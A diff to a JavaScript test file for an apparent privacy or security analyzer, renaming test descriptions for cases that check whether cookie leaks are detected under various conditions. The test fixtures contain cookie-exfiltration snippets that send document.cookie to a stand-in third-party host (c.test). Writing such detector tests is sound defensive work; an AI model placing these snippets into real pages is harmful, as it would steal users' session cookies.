@@ -222,7 +222,7 @@ const IMPOSSIBLE = [
 const LEAK = "request fetch > third-party c.test < url cookie (purpose)";
 
 describe("conditions", () => {
-	test.each(POSSIBLE)("what hangs on %s is seen", (condition) => {
+	test.each(POSSIBLE)("code that depends on %s is analyzed", (condition) => {
 		expect(sinksOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([LEAK]);
 		expect(sinksOf(`(${condition}) && fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
 		expect(sinksOf(`fetch("https://c.test/" + ((${condition}) ? document.cookie : ""))`)).toEqual([LEAK]);
@@ -239,14 +239,14 @@ describe("conditions", () => {
 		"const o = {}; o.__defineGetter__('a', () => 1); if (o.a) { LEAK }",
 		"const o = {}; o.__proto__ = { a: 1 }; if (o.a) { LEAK }",
 		"(function f() { if (arguments.callee === f) { LEAK } })();",
-	])("what may run is seen: %s", (code) => {
+	])("code that may run is analyzed: %s", (code) => {
 		const leak = 'fetch("https://c.test/" + document.cookie)';
 		expect(sinksOf(code.replace("LEAK_VALUE", leak).replace("LEAK", `${leak};`))).toContainEqual(
 			expect.stringContaining("request fetch > third-party c.test < url cookie"),
 		);
 	});
 
-	test.each(IMPOSSIBLE)("what hangs on %s never runs", (condition) => {
+	test.each(IMPOSSIBLE)("code that depends on %s never runs", (condition) => {
 		expect(sinksOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([]);
 		expect(sinksOf(`(${condition}) || fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
 	});
